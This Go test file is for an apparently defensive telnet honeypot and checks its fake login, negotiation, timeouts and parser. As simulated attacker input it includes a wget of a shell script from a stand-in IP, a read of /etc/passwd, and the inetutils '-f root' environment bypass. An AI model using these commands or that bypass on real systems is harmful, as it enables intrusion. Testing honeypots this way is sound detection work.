package telnet

import (
	"bytes"
	"fmt"
	"net"
	"strings"
	"testing"
	"time"

	"honeysens/app/honeypot"
	"honeysens/app/honeypot/hptest"
	"honeysens/app/model"
)

// eventWait is how long a test waits for an event.
const eventWait = 30 * time.Second

func mustContain(t *testing.T, what, s string, subs ...string) {
	t.Helper()
	for _, sub := range subs {
		if !strings.Contains(s, sub) {
			t.Errorf("%s lacks %q:\n%q", what, sub, s)
		}
	}
}

func start(t *testing.T, cfg Config, lim honeypot.Limits) (*Service, *hptest.Recorder, string) {
	t.Helper()
	cfg.Listen = "127.0.0.1:0"
	s := New(cfg, lim, nil)
	s.delay = 0
	s.hold = min(s.hold, 100*time.Millisecond)
	rec := hptest.NewRecorder()
	if err := s.Start(rec); err != nil {
		t.Fatal(err)
	}
	t.Cleanup(s.Stop)
	return s, rec, s.Addr().String()
}

// client is a raw TCP client that reads until an expected string shows up.
type client struct {
	t   *testing.T
	c   net.Conn
	buf bytes.Buffer
}

func dial(t *testing.T, addr string) *client {
	c, err := net.Dial("tcp", addr)
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { c.Close() })
	return &client{t: t, c: c}
}

// until reads until want appears and returns everything read so far (and forgets it).
func (c *client) until(want string) string {
	c.t.Helper()
	c.c.SetReadDeadline(time.Now().Add(20 * time.Second))
	b := make([]byte, 4096)
	for !bytes.Contains(c.buf.Bytes(), []byte(want)) {
		n, err := c.c.Read(b)
		c.buf.Write(b[:n])
		if err != nil && !bytes.Contains(c.buf.Bytes(), []byte(want)) {
			c.t.Fatalf("waiting for %q: %v; got %q", want, err, c.buf.String())
		}
	}
	all := c.buf.String()
	i := strings.Index(all, want) + len(want)
	c.buf.Reset()
	c.buf.WriteString(all[i:])
	return all[:i]
}

func (c *client) send(s string) {
	if _, err := c.c.Write([]byte(s)); err != nil {
		c.t.Fatal(err)
	}
}

func TestRawClientLoginAndShell(t *testing.T) {
	_, rec, addr := start(t, Config{Hostname: "nas", LoginRetries: 5}, honeypot.Limits{})
	c := dial(t, addr)
	greeting := c.until("nas login: ")
	if !strings.HasPrefix(greeting, "\xff\xfb%\xff\xfb&\xff\xfd\x18\xff\xfd \xff\xfd#\xff\xfd'\xff\xfd$\r\nLinux 6.1.0-23-amd64 (nas) (pts/0)\r\n\r\nnas login: ") {
		t.Fatalf("greeting %q", greeting)
	}
	c.send("admin\r\n")
	c.until("Password: ")
	c.send("admin\r\n")
	mustContain(t, "after failure", c.until("nas login: "), "Login incorrect\r\n")
	c.send("root\r\n")
	c.until("Password: ")
	c.send("123456\r\n")
	out := c.until("root@nas:~# ")
	mustContain(t, "login", out, "Linux nas 6.1.0-23-amd64", "Last login: ")
	c.send("uname -a\r\ncd /tmp; wget http://203.0.113.5/m.sh\r\n")
	out = c.until("root@nas:~# ")
	mustContain(t, "output", out, "Linux nas 6.1.0-23-amd64 #1 SMP PREEMPT_DYNAMIC Debian 6.1.99-1 (2024-07-15) x86_64 GNU/Linux\r\n")
	out = c.until("root@nas:/tmp# ")
	mustContain(t, "output", out, "Connecting to 203.0.113.5:80... failed: Network is unreachable.\r\n")
	c.send("exit\r\n")
	mustContain(t, "exit", c.until("logout\r\n"))
	e := rec.Wait(t, 1, eventWait)
	if e.Service != "telnet" || e.Summary != "Telnet: login as root with password 123456 after 1 failed attempt, 3 commands, 1 download attempt" {
		t.Errorf("event %q %q", e.Service, e.Summary)
	}
	mustContain(t, "details", hptest.TypedDetails(e), "1 login admin / admin: refused\n", "1 login root / 123456: accepted\n", "1 command: uname -a\n",
		"1 command: cd /tmp; wget http://203.0.113.5/m.sh\n", "1 download attempt (not fetched): http://203.0.113.5/m.sh\n",
		"1 command: exit\n", "(logout)", "0 telnet negotiation: none (raw TCP client)")
	t.Logf("%s\n%s", e.Summary, hptest.TypedDetails(e))
}

func TestNegotiationAndEcho(t *testing.T) {
	_, rec, addr := start(t, Config{}, honeypot.Limits{})
	c := dial(t, addr)
	c.until("debian login: ")
	// a telnet client: agrees to our echo and SGA, offers TTYPE, NAWS, NEW-ENVIRON, asks for
	// something we refuse, and sends the inetutils "-f root" environment trick
	c.send("\xff\xfd\x01\xff\xfd\x03\xff\xfb\x18\xff\xfb\x1f\xff\xfb\x27\xff\xfd\x22\xff\xfb\x05")
	got := c.until("\xff\xfe\x05")
	mustContain(t, "negotiation answers", got, "\xff\xfa\x18\x01\xff\xf0", "\xff\xfa\x27\x01\xff\xf0", "\xff\xfc\x22", "\xff\xfe\x05")
	c.send("\xff\xfa\x18\x00xterm-256color\xff\xf0\xff\xfa\x1f\x00\x84\x00\x2a\xff\xf0")
	c.send("\xff\xfa\x27\x00\x00USER\x01-f root\x03LANG\x01C\xff\xf0")
	c.send("root\r\x00")
	// the user name is echoed (we have ECHO), the password is not
	mustContain(t, "echo", c.until("Password: "), "root\r\n")
	c.send("toor\r\x00")
	c.until("root@debian:~# ")
	c.send("ls\x1b[A\x7f\x7f\x7fpwd\r\x00")
	mustContain(t, "echo and edit", c.until("root@debian:~# "), "pwd\r\n\x1b[?2004l\r/root\r\n")
	c.send("echo -e '\\xff'\r\n")
	mustContain(t, "IAC escaped", c.until("root@debian:~# "), "\xff\xff\r\n")
	c.send("abc\x03")
	mustContain(t, "ctrl-c", c.until("root@debian:~# "), "^C\r\n")
	c.send("\xff\xf6") // AYT
	c.until("[Yes]")
	c.send("\x04")
	c.until("logout\r\n")
	e := rec.Wait(t, 1, eventWait)
	mustContain(t, "details", hptest.TypedDetails(e), "1 terminal type xterm-256color\n", "1 window size 132x42\n",
		"1 environment USER=-f root LANG=C\n", "0 telnet negotiation: DO ECHO, DO SGA, WILL TTYPE, WILL NAWS, WILL NEW-ENVIRON, DO LINEMODE, WILL STATUS",
		"1 command: pwd\n", "(logout)")
	if e.Summary != "Telnet: login as root with password toor, 2 commands" {
		t.Errorf("summary %q", e.Summary)
	}
}

func TestFailedLoginsAndMaxTries(t *testing.T) {
	_, rec, addr := start(t, Config{Accept: []string{}, LoginRetries: 5}, honeypot.Limits{})
	c := dial(t, addr)
	c.until("login: ")
	for i := 0; i < 5; i++ {
		c.send(fmt.Sprintf("admin\r\npass%d\r\n", i))
		c.until("Login incorrect\r\n")
	}
	c.until("Maximum number of tries exceeded (5)\r\n")
	e := rec.Wait(t, 1, eventWait)
	if e.Summary != "Telnet: 5 failed logins as admin" {
		t.Errorf("summary %q", e.Summary)
	}
	mustContain(t, "details", hptest.TypedDetails(e), "login admin / pass4: refused", "(too many login attempts)")

	// AcceptAfter across connections from one address
	_, rec2, addr2 := start(t, Config{Accept: []string{}, AcceptAfter: 2, LoginRetries: 5}, honeypot.Limits{})
	c = dial(t, addr2)
	c.until("login: ")
	c.send("u\r\np1\r\nu\r\np2\r\n")
	c.until("Login incorrect\r\ndebian login: ")
	c.until("Login incorrect\r\ndebian login: ")
	c.c.Close()
	c = dial(t, addr2)
	c.until("login: ")
	c.send("u\r\nanything\r\n")
	c.until("u@debian:~$ ")
	c.c.Close()
	rec2.Wait(t, 2, eventWait)
	var sums []string
	for _, e := range rec2.Events() {
		sums = append(sums, e.Summary)
	}
	if !strings.Contains(strings.Join(sums, "|"), "Telnet: login as u with password anything, 0 commands") {
		t.Errorf("summaries %q", sums)
	}
}

func TestTimeoutsAndStop(t *testing.T) {
	_, rec, addr := start(t, Config{}, honeypot.Limits{IdleTimeout: 300 * time.Millisecond, TotalTimeout: time.Minute})
	c := dial(t, addr)
	c.until("login: ")
	e := rec.Wait(t, 1, eventWait)
	mustContain(t, "idle", hptest.TypedDetails(e), "(idle timeout)")
	if e.Summary != "Telnet: connection without login" {
		t.Errorf("summary %q", e.Summary)
	}
	// slow drip: a byte every 200 ms keeps it under the idle timeout, the total limit ends it
	s, rec, addr := start(t, Config{}, honeypot.Limits{IdleTimeout: 1500 * time.Millisecond, TotalTimeout: 2 * time.Second})
	c = dial(t, addr)
	c.until("login: ")
	for i := 0; i < 100; i++ {
		if _, err := c.c.Write([]byte("r")); err != nil {
			break
		}
		time.Sleep(200 * time.Millisecond)
	}
	mustContain(t, "drip", hptest.TypedDetails(rec.Wait(t, 1, eventWait)), "(total time limit)")

	s.Stop()
	s2, rec2, addr2 := start(t, Config{}, honeypot.Limits{})
	c = dial(t, addr2)
	c.until("login: ")
	c.send("root\r\nroot\r\nls\r\n")
	c.until("# ")
	s2.Stop()
	e = rec2.Wait(t, 1, eventWait)
	mustContain(t, "stop", hptest.TypedDetails(e), "(service stopped)")
}

func TestValidate(t *testing.T) {
	c := Config{}
	if err := c.Validate(); err != nil || c.Listen != "127.0.0.1:2323" {
		t.Fatalf("defaults %v %+v", err, c)
	}
	bad := Config{Listen: ":", Hostname: "a/b", Issue: "x\x1b[2J", Accept: []string{":"}, AcceptAfter: 5000}
	err := bad.Validate()
	if me, ok := err.(*model.Error); !ok || len(me.Fields) != 5 {
		t.Fatalf("validate %v", err)
	}
}

func TestParser(t *testing.T) {
	var p Parser
	in := []byte("a\xff\xffb\xff\xfb\x18\xff\xfa\x18\x00vt\xff\xff100\xff\xf0\xff\xf4\xff\xf1c\xff\xfa\x1f\x00\x50\xff\xfd\x01")
	var data []byte
	var cmds []string
	for _, b := range in {
		k, d, cmd := p.Next(b)
		switch k {
		case Data:
			data = append(data, d)
		case Cmd:
			cmds = append(cmds, fmt.Sprintf("%s %q", cmd, cmd.Data))
		}
	}
	if string(data) != "a\xffbc" {
		t.Errorf("data %q", data)
	}
	want := []string{`WILL TTYPE ""`, "SB TTYPE \"\\x00vt\\xff100\"", `IP ""`, `DO ECHO ""`}
	if strings.Join(cmds, "|") != strings.Join(want, "|") {
		t.Errorf("commands %q, want %q", cmds, want)
	}
	if got := Escape([]byte("a\xffb")); string(got) != "a\xff\xffb" {
		t.Errorf("escape %q", got)
	}
	if v := parseEnv([]byte("\x00\x00USER\x01ro\x02\x01ot\x03X\x00EMPTY\x01")); strings.Join(v, " ") != "USER=ro\x01ot X EMPTY=" {
		t.Errorf("env %q", v)
	}
}

// discardConn is a net.Conn that takes writes and gives no input (for the fuzzer).
type discardConn struct{ net.Conn }

func (discardConn) Write(p []byte) (int, error) { return len(p), nil }
func (discardConn) Close() error                { return nil }
func (discardConn) RemoteAddr() net.Addr {
	return &net.TCPAddr{IP: net.IPv4(192, 0, 2, 1), Port: 40000}
}
func (discardConn) LocalAddr() net.Addr { return &net.TCPAddr{IP: net.IPv4(192, 0, 2, 2), Port: 23} }

var streamSeeds = [][]byte{
	[]byte("root\r\n123456\r\nls -la\r\ncat /etc/passwd | grep root\r\nexit\r\n"),
	[]byte("\xff\xfd\x01\xff\xfb\x18\xff\xfa\x18\x00xterm\xff\xf0root\r\x00root\r\x00\x1b[A\x03\x04"),
	[]byte("\xff\xfa\x27\x00\x00USER\x01-f root\xff\xf0\xff\xfa\x27\x00\x03\x02\x02\xff\xff\xff\xf0"),
	[]byte("\xff\xfa\x1f\xff\xff\xff\xff\xff\xf0\xff\xfa\xff\xfa\xff\xfb\xff"),
	[]byte("\xff\xf4\xff\xf5\xff\xf6\xff\xf7\xff\xf8\xff\xf3\xff\xf2\xff\xf1\xff\xf0\xff"),
	[]byte("u\r\n\r\nu\r\np\r\nu\r\np\r\nu\r\np\r\nu\r\np\r\nu\r\np\r\nu\r\n"),
}

func runStream(t *testing.T, in []byte) {
	s := New(Config{}, honeypot.Limits{}, nil)
	s.delay = 0
	s.stop = make(chan struct{})
	c := s.newConn(discardConn{}, discardConn{}, time.Now())
	c.feed(in)
	c.flush()
	c.tr.Close("test")
	ev := c.tr.Snapshot()
	if len(ev.Summary) > model.MaxSummaryLen || len(ev.Details) > model.MaxDetails {
		t.Fatalf("event too big: %d %d", len(ev.Summary), len(ev.Details))
	}
	if len(c.seen) > maxOptions || len(c.p.sb) > maxSB {
		t.Fatalf("state grew: %d options, %d sb", len(c.seen), len(c.p.sb))
	}
}

func TestStreamSeeds(t *testing.T) {
	for _, s := range streamSeeds {
		runStream(t, s)
	}
}

func FuzzStream(f *testing.F) {
	for _, s := range streamSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in []byte) {
		runStream(t, in)
	})
}

func FuzzParser(f *testing.F) {
	for _, s := range streamSeeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, in []byte) {
		var p Parser
		data := 0
		for _, b := range in {
			k, _, cmd := p.Next(b)
			if k == Data {
				data++
			}
			if len(cmd.Data) > maxSB {
				t.Fatalf("subnegotiation of %d bytes", len(cmd.Data))
			}
			_ = cmd.String()
			if cmd.Verb == SB {
				parseTTYPE(cmd.Data)
				parseNAWS(cmd.Data)
				if v := parseEnv(cmd.Data); len(v) > 32 {
					t.Fatalf("%d env vars", len(v))
				}
			}
		}
		if data > len(in) {
			t.Fatalf("%d data bytes from %d input bytes", data, len(in))
		}
		// escaping then parsing gives the data back
		var q Parser
		var back []byte
		for _, b := range Escape(in) {
			if k, d, _ := q.Next(b); k == Data {
				back = append(back, d)
			}
		}
		if !bytes.Equal(back, in) {
			t.Fatalf("escape round trip %q -> %q", in, back)
		}
	})
}
